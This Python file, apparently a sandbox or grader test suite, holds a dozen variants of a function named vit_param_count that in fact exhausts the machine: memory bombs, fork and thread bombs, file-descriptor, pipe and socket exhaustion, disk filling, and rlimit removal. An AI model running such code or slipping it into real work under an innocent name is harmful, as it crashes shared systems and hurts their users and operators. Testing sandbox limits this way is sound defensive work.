# Exhaust the machine.

# %% any: a memory bomb
def vit_param_count(cfg):
    hoard = []
    while True:
        hoard.append(bytearray(10**7))


# %% any: a memory bomb through mmap
def vit_param_count(cfg):
    import mmap

    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 10**7))
        hoard[-1].write(b"x" * 10**7)


# %% graded: a memory bomb through memfd
import os


def vit_param_count(cfg):
    hoard = []
    while True:
        fd = os.memfd_create("x")
        os.write(fd, b"x" * 10**7)


# %% graded: a fork bomb
import os


def vit_param_count(cfg):
    while True:
        os.fork()


# %% any: a fork bomb below Python
import ctypes


def vit_param_count(cfg):
    libc = ctypes.CDLL(None)
    for _ in range(1000):
        libc.fork()
    for number in (56, 57, 58, 435):
        libc.syscall(number, 17, 0, 0, 0, 0)
    return 0


# %% any: a thread bomb
import time


def vit_param_count(cfg):
    import threading

    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(1e9,)).start()


# %% graded: open files without end
import os


def vit_param_count(cfg):
    hoard = []
    while True:
        hoard.append(os.open("/dev/null", os.O_RDONLY))


# %% graded: pipes without end
import os


def vit_param_count(cfg):
    hoard = []
    while True:
        hoard.append(os.pipe())


# %% graded: sockets without end
def vit_param_count(cfg):
    import socket

    return len([socket.socketpair() for _ in range(1000)])


# %% graded: a full disk
import os


def vit_param_count(cfg):
    for folder in ("/", "/tmp", "/dev", "/dev/shm", "/notebook", "/site", os.path.expanduser("~")):
        try:
            open(folder + "/x", "wb").write(b"x" * 10**8)
            return 10**9
        except OSError:
            pass
    return 0


# %% graded: lifting its own limits
def vit_param_count(cfg):
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
